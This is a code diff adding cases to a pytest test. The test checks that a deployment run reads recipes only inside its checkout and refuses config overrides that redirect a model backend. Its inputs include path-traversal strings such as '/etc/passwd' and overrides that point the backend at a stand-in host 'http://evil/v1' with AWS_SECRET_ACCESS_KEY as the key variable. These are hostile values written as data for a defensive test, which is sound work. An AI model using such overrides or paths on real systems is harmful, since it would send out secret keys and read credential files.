@@ -124,3 +124,9 @@ def test_a_deployment_run_reads_recipes_inside_its_checkout_only(monkeypatch, re
     for outside in ("/etc/passwd", "../secrets.yaml", "recipes/../../x.yaml"):
         with pytest.raises(RecipeError, match="inside its checkout only"):
             _confined(outside)
+    # pointed at another URL, the worker would send it the key the block names
+    for endpoint in ("generator.params.backend={kind: openai, base_url: 'http://evil/v1', model: m, api_key_env: AWS_SECRET_ACCESS_KEY}",
+                     "generator.params.captions.params.backend.base_url=http://evil/v1"):
+        with pytest.raises(RecipeError, match="cannot change where a model is served"):
+            _confined("recipes/synclr.yaml", [endpoint])
+    assert _confined("recipes/shapes.yaml", ["shard_size=100"]) == "recipes/shapes.yaml"
